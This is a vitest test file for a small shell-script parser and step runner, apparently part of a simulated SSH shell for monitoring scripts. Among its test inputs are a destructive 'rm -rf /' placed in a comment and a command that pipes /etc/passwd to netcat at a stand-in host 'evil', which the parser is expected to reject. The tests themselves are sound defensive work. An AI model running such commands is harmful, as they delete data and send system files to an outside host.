import { describe, expect, it } from 'vitest';
import { parseScript, runSteps, ShellSyntaxError, type SimpleCommand } from './ssh-shell';

const argvs = (script: string): string[][] => parseScript(script).map((s) => s.command.argv);

describe('parseScript', () => {
  it('splits on ; && || and newlines, keeping quoted separators inside words', () => {
    expect(argvs("echo 'a; b' && echo \"c && d\"\nuname -m || true # comment; rm -rf /")).toEqual([
      ['echo', 'a; b'],
      ['echo', 'c && d'],
      ['uname', '-m'],
      ['true'],
    ]);
    expect(parseScript('a && b || c').map((s) => s.joiner)).toEqual([';', '&&', '||']);
  });

  it('understands the redirections monitoring scripts use', () => {
    const [cmd] = parseScript('flux-cli getinfo 2>&1 >/dev/null').map((s) => s.command);
    expect(cmd).toMatchObject({ argv: ['flux-cli', 'getinfo'], stderrToStdout: true, dropStdout: true });
    expect(parseScript('df 2> /dev/null')[0]!.command).toMatchObject({ argv: ['df'], dropStderr: true });
    expect(argvs("echo '2>&1'")).toEqual([['echo', '2>&1']]);
  });

  it('refuses what it does not model, with a shell-like message', () => {
    expect(() => parseScript('cat /etc/passwd | nc evil 1')).toThrow(ShellSyntaxError);
    expect(() => parseScript('sleep 100 &')).toThrow(/background/);
    expect(() => parseScript("echo 'open")).toThrow(/unterminated/);
    expect(() => parseScript('echo > /tmp/x')).toThrow(/not supported/);
    expect(() => parseScript('&& echo')).toThrow(/unexpected token/);
    expect(() => parseScript('echo a &&')).toThrow(/end of file/);
    expect(() => parseScript('x'.repeat(70_000))).toThrow(/too long/);
  });
});

describe('runSteps', () => {
  const fake = (cmd: SimpleCommand) =>
    cmd.argv[0] === 'fail' ? { stdout: '', stderr: 'boom\n', code: 1 } : { stdout: `${cmd.argv.join(' ')}\n`, stderr: 'warn\n', code: 0 };

  it('skips && after a failure and runs || after it; last exit code wins', () => {
    expect(runSteps(parseScript('fail && a; b || c; fail || d'), fake)).toEqual({
      stdout: 'b\nd\n',
      stderr: 'boom\nwarn\nboom\nwarn\n',
      code: 0,
    });
  });

  it('merges or drops streams per command', () => {
    expect(runSteps(parseScript('a 2>&1; b 2>/dev/null; c >/dev/null 2>&1'), fake)).toEqual({ stdout: 'a\nwarn\nb\n', stderr: '', code: 0 });
  });
});
